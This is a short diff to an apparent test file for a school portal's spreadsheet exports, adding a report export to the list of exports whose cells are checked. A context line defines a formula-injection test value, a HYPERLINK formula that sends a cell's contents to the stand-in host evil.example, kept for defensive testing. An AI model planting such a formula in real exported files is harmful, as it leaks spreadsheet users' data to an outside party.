@@ -19,7 +19,8 @@ from tests.schools.test_plans import client_of, send
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")'
 # The exports of the whole portal and the test below that covers each: a new export must be
 # added here, with a check of its cells.
-EXPORTS = {"schools.plan_xlsx", "schools.indicators_template"}
+# measurement.export_report: tests/measurement/test_report_page.py (a stem written as a formula).
+EXPORTS = {"schools.plan_xlsx", "schools.indicators_template", "measurement.export_report"}
 
 
 def export_endpoints(app) -> set[str]:
